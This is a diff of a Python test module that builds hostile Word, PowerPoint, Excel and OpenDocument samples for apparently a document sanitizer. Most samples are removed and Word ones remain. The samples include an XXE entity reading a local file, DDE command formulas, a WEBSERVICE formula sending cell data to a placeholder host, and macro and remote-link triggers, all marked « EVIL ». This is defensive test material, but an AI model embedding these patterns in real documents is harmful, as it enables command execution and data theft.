@@ -1,12 +1,11 @@
-"""Documents of Word, PowerPoint, Excel and OpenDocument that do what no reader asked for.
+"""Documents of Word that do what no reader asked for.
 
 Each holds « EVIL » where its harm is: the file is refused, or comes out without.
 """
 
 import re
 
-from tests.documents import ODF_KIND, REL, A, P, W, docx, manifest, ods, odt, pptx, relations, xlsx
-from tests.files import archive_bytes
+from tests.documents import REL, W, docx, relations
 
 MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
 STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
@@ -44,10 +43,6 @@ def with_entities() -> bytes:
 def with_file_of_the_server() -> bytes:
     text = f'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/EVIL">]><w:document xmlns:w="{W}">&e;</w:document>'
     return docx(parts={"word/document.xml": text})
-
-
-def odf_link(element: str) -> bytes:
-    return odt(f"<text:p><draw:frame>{element}</draw:frame></text:p>")
 
 
 OLE = '<w:object><v:shape/><o:OLEObject Type="Embed" ProgID="{}" r:id="e"/></w:object>'
@@ -213,118 +208,5 @@ HOSTILE = {
             },
             links=[("e", "image", "media/x.svg")],
         ),
-    ),
-    # PowerPoint
-    "click that starts a program": (
-        "pptx",
-        pptx(
-            '<p:sp><a:hlinkClick r:id="e" action="ppaction://program?EVIL"/></p:sp>',
-            links=[("e", "hyperlink", "!file:///EVIL.exe")],
-        ),
-    ),
-    "click that runs a macro": (
-        "pptx",
-        pptx('<p:sp><a:hlinkMouseOver r:id="" action="ppaction://macro?name=EVIL"/></p:sp>'),
-    ),
-    "film of elsewhere": ("pptx", pptx(links=[("e", "video", FAR)])),
-    "sound": ("pptx", pptx(parts={"ppt/media/x.wav": "EVIL"}, links=[("e", "audio", "../media/x.wav")])),
-    "object of another program": (
-        "pptx",
-        pptx(
-            f'<p:graphicFrame xmlns:p="{P}"><a:graphic xmlns:a="{A}"><p:oleObj progId="Package" r:id="e"/></a:graphic></p:graphicFrame>',
-            {"ppt/o.bin": "EVIL"},
-            [("e", "oleObject", "../o.bin")],
-        ),
-    ),
-    # Excel
-    "values of another file": (
-        "xlsx",
-        xlsx(
-            book='<externalReferences><externalReference r:id="e"/></externalReferences>',
-            parts={"xl/externalLinks/e.xml": "<EVIL/>"},
-            book_links=[("e", "externalLink", "externalLinks/e.xml")],
-        ),
-    ),
-    "dde in a formula": ("xlsx", xlsx("<c r=\"B1\"><f>cmd|'/c EVIL'!A0</f><v>1</v></c>")),
-    "question to the web": ("xlsx", xlsx('<c r="B1"><f>WEBSERVICE("http://EVIL/"&amp;A1)</f><v>1</v></c>')),
-    "macro sheet": (
-        "xlsx",
-        xlsx(parts={"xl/m.xml": "<EVIL/>"}, book_links=[("e", f"{MICROSOFT}/xlMacrosheet", "m.xml")]),
-    ),
-    "data of elsewhere": (
-        "xlsx",
-        xlsx(parts={"xl/connections.xml": "<EVIL/>"}, book_links=[("e", "connections", "connections.xml")]),
-    ),
-    "dde in a rule": (
-        "xlsx",
-        xlsx(
-            after='<conditionalFormatting><cfRule><formula>DDE("EVIL";"x")</formula></cfRule></conditionalFormatting>'
-        ),
-    ),
-    "workbook with macros": (
-        "xlsx",
-        xlsx(types={"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}),
-    ),
-    # OpenDocument
-    "library of macros": ("odt", odt(parts={"Basic/Standard/Module1.xml": "EVIL"})),
-    "macros in the text": (
-        "odt",
-        odt(
-            before="<office:scripts><office:script><ooo:module>EVIL</ooo:module></office:script></office:scripts>"
-        ),
-    ),
-    "event that starts something": (
-        "odt",
-        odt(
-            '<text:p><text:a xlink:href="https://police.be"><office:event-listeners>'
-            '<script:event-listener script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:EVIL"/>'
-            "</office:event-listeners>x</text:a></text:p>"
-        ),
-    ),
-    "macro at a click": ("odt", odt('<text:p><text:a xlink:href="macro:///EVIL">x</text:a></text:p>')),
-    "picture from the web": ("odt", odf_link('<draw:image xlink:href="https://EVIL.example/x.png"/>')),
-    "picture of the network": ("odt", odf_link('<draw:image xlink:href="//EVIL/x.png"/>')),
-    "picture of the disk": ("odt", odf_link('<draw:image xlink:href="../../EVIL.png"/>')),
-    "object of elsewhere, open": ("odt", odf_link('<draw:object xlink:href="file:///EVIL.odt"/>')),
-    "binary object": ("odt", odf_link('<draw:object-ole xlink:href="./EVIL"/>')),
-    "frame of elsewhere": ("odt", odf_link('<draw:floating-frame xlink:href="https://EVIL.example"/>')),
-    "part of elsewhere": (
-        "odt",
-        odt(
-            '<text:section><text:section-source xlink:href="https://EVIL.example/x.odt"/><text:p>x</text:p></text:section>'
-        ),
-    ),
-    "dde in a text": (
-        "odt",
-        odt(
-            '<text:dde-connection-decls><text:dde-connection-decl office:dde-application="EVIL"/></text:dde-connection-decls>'
-        ),
-    ),
-    "dde in a cell": (
-        "ods",
-        ods('<table:table-cell table:formula="of:=DDE(&quot;EVIL&quot;;&quot;x&quot;)" office:value="1"/>'),
-    ),
-    "cell of another file": (
-        "ods",
-        ods('<table:table-cell table:formula="of:=\'file:///EVIL.ods\'#$F.A1" office:value="1"/>'),
-    ),
-    "sheet of another file": (
-        "ods",
-        ods(
-            '<table:table-cell/></table:table-row></table:table><table:table><table:table-source xlink:href="//EVIL/x.ods"/><table:table-row>'
-        ),
-    ),
-    "locked": (
-        "odt",
-        odt(
-            parts={
-                "META-INF/manifest.xml": manifest({"content.xml": "text/xml"}, "<m:encryption-data/>"),
-                "EVIL": "",
-            }
-        ),
-    ),
-    "another kind inside": (
-        "odt",
-        archive_bytes({"mimetype": f"{ODF_KIND}text-template", "content.xml": "<EVIL/>"}),
     ),
 }
